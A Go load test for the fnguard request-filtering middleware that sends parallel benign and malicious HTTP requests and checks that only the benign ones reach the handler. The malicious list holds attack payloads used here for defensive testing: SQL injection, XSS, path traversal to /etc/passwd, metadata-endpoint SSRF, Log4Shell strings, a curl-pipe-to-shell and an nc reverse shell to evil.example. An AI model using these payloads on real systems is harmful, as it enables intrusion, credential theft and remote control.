package benchmarks_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"go.uber.org/goleak"

	"github.com/fnguard/fnguard/benchmarks"
	"github.com/fnguard/fnguard/middleware/guardhttp"
)

// Bounds of the load test.
const (
	loadClients  = 8
	loadRequests = 250 // per client
	// loadDeadline only stops a hung run; the test asserts no duration
	// (a busy machine is not a failure of fnguard). Throughput is logged.
	loadDeadline = 3 * time.Minute
)

// request is one kind of request of the load mix; id is the X-Request-Id
// the handler echoes (a header fnguard does not inspect).
type request struct {
	name      string
	malicious bool
	build     func(base, id string) (*http.Request, error)
}

func getQuery(name, value string) func(base, id string) (*http.Request, error) {
	return func(base, id string) (*http.Request, error) {
		r, err := http.NewRequest(http.MethodGet, base+"/search?"+url.Values{name: {value}}.Encode(), nil)
		if err == nil {
			r.Header.Set("X-Request-Id", id)
		}
		return r, err
	}
}

func postJSON(field, value string) func(base, id string) (*http.Request, error) {
	return func(base, id string) (*http.Request, error) {
		body, err := json.Marshal(map[string]any{field: value, "qty": 2})
		if err != nil {
			return nil, err
		}
		r, err := http.NewRequest(http.MethodPost, base+"/comments", strings.NewReader(string(body)))
		if err == nil {
			r.Header.Set("Content-Type", "application/json")
			r.Header.Set("X-Request-Id", id)
		}
		return r, err
	}
}

func withHeader(name, value string) func(base, id string) (*http.Request, error) {
	return func(base, id string) (*http.Request, error) {
		r, err := http.NewRequest(http.MethodGet, base+"/orders/1234", nil)
		if err == nil {
			r.Header.Set(name, value)
			r.Header.Set("X-Request-Id", id)
		}
		return r, err
	}
}

// loadMix is about twenty benign and twenty malicious requests spread over
// the query string, JSON bodies and headers.
func loadMix() []request {
	benign := []struct{ where, k, v string }{
		{"q", "q", "blue cotton shirt"}, {"q", "q", "O'Brien"}, {"q", "sort", "price desc"}, {"q", "email", "hiroshi+orders@example.com"},
		{"q", "q", "50% off, today only!"}, {"q", "next", "/orders/1234?page=2"}, {"q", "q", "café crème"},
		{"b", "comment", "please leave at the door"}, {"b", "comment", "Ring twice; the bell is broken."}, {"b", "comment", "I'd like 2 x 3 boxes <3"},
		{"b", "name", "Siobhan O'Brien"}, {"b", "note", "select the best one from the list"}, {"b", "comment", "see https://example.com/help#faq"},
		{"h", "User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"}, {"h", "Accept-Language", "en-IE,en;q=0.9"},
		{"h", "Referer", "https://shop.example.com/cart"}, {"h", "X-Client-Version", "4.2.1"}, {"h", "Accept", "application/json, text/plain, */*"},
		{"h", "If-None-Match", `W/"5e-1a2b3c"`}, {"h", "Cache-Control", "no-cache"},
	}
	malicious := []struct{ where, k, v string }{
		{"q", "q", "1' OR '1'='1' --"}, {"q", "id", "1 UNION SELECT username, password FROM users--"}, {"q", "q", "<script>alert(document.cookie)</script>"},
		{"q", "file", "../../../../etc/passwd"}, {"q", "url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
		{"q", "host", "example.com; cat /etc/shadow"}, {"q", "name", "{{7*7}}{{config.items()}}"},
		{"b", "comment", "<img src=x onerror=alert(1)>"}, {"b", "comment", "'; DROP TABLE orders; --"}, {"b", "path", "..\\..\\..\\windows\\win.ini"},
		{"b", "cmd", "$(curl http://evil.example/x.sh | sh)"}, {"b", "comment", "${jndi:ldap://evil.example/a}"},
		{"b", "webhook", "http://127.0.0.1:8080/admin"}, {"b", "comment", "<svg/onload=alert(1)>"},
		{"h", "User-Agent", "${jndi:ldap://evil.example/exploit}"}, {"h", "Referer", "javascript:alert(1)//<script>alert(1)</script>"},
		{"h", "X-Search", "' or 1=1 --"}, {"h", "X-File", "../../../../../etc/passwd"}, {"h", "X-Callback", "| nc -e /bin/sh evil.example 4444"},
		{"h", "X-Template", "${7*7}<%= 7*7 %>{{7*7}}"},
	}
	var mix []request
	add := func(list []struct{ where, k, v string }, bad bool) {
		for _, c := range list {
			var b func(string, string) (*http.Request, error)
			switch c.where {
			case "q":
				b = getQuery(c.k, c.v)
			case "b":
				b = postJSON(c.k, c.v)
			default:
				b = withHeader(c.k, c.v)
			}
			mix = append(mix, request{name: c.where + ":" + c.k + "=" + c.v, malicious: bad, build: b})
		}
	}
	add(benign, false)
	add(malicious, true)
	return mix
}

// TestLoad drives a guardhttp-guarded net/http server with parallel clients
// and checks every single answer: benign requests get the handler's 200 and
// the echo of their id, malicious ones get 403 without the handler running.
// Nothing lost, nothing let through, within a time bound.
func TestLoad(t *testing.T) {
	defer goleak.VerifyNone(t, goleak.IgnoreCurrent())
	g, err := benchmarks.NewGuard()
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	seen := map[string]int{}
	app := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		id := r.Header.Get("X-Request-Id")
		io.Copy(io.Discard, r.Body)
		mu.Lock()
		seen[id]++
		mu.Unlock()
		w.Header().Set("Content-Type", "text/plain")
		io.WriteString(w, "handled "+id)
	})
	srv := httptest.NewServer(guardhttp.Handler(g, app))
	tr := &http.Transport{MaxIdleConnsPerHost: loadClients}
	client := &http.Client{Transport: tr, Timeout: 10 * time.Second}
	defer srv.Close()
	defer tr.CloseIdleConnections()

	clients, perClient := loadClients, loadRequests
	if testing.Short() {
		perClient = 40
	}
	mix := loadMix()
	ctx, cancel := context.WithTimeout(context.Background(), loadDeadline)
	defer cancel()
	type result struct {
		id        string
		kind      request
		status    int
		body      string
		transport error
	}
	results := make(chan result, clients*perClient)
	var wg sync.WaitGroup
	start := time.Now()
	for c := range clients {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range perClient {
				kind := mix[(c*7+i)%len(mix)]
				id := fmt.Sprintf("load-%d-%d", c, i)
				req, err := kind.build(srv.URL, id)
				if err != nil {
					results <- result{id: id, kind: kind, transport: err}
					continue
				}
				resp, err := client.Do(req.WithContext(ctx))
				if err != nil {
					results <- result{id: id, kind: kind, transport: err}
					continue
				}
				body, err := io.ReadAll(resp.Body)
				resp.Body.Close()
				results <- result{id: id, kind: kind, status: resp.StatusCode, body: string(body), transport: err}
			}
		}()
	}
	wg.Wait()
	close(results)
	elapsed := time.Since(start)

	var benign, blocked, failures int
	for r := range results {
		fail := func(format string, args ...any) {
			failures++
			if failures <= 20 {
				t.Errorf("%s (%s): %s", r.id, r.kind.name, fmt.Sprintf(format, args...))
			}
		}
		mu.Lock()
		calls := seen[r.id]
		mu.Unlock()
		switch {
		case r.transport != nil:
			fail("lost: %v", r.transport)
		case r.kind.malicious:
			if r.status != http.StatusForbidden || calls != 0 {
				fail("status %d, handler calls %d, body %.100q; want 403 and no handler call", r.status, calls, r.body)
			} else {
				blocked++
			}
		default:
			if r.status != http.StatusOK || r.body != "handled "+r.id || calls != 1 {
				fail("status %d, handler calls %d, body %.100q; want 200 %q", r.status, calls, r.body, "handled "+r.id)
			} else {
				benign++
			}
		}
	}
	if total := benign + blocked + failures; total != clients*perClient {
		t.Errorf("%d answers for %d requests", total, clients*perClient)
	}
	t.Logf("%d requests from %d clients in %s (%.0f req/s): %d benign answered by the handler, %d blocked with 403, %d failures",
		clients*perClient, clients, elapsed.Round(time.Millisecond), float64(clients*perClient)/elapsed.Seconds(), benign, blocked, failures)
}
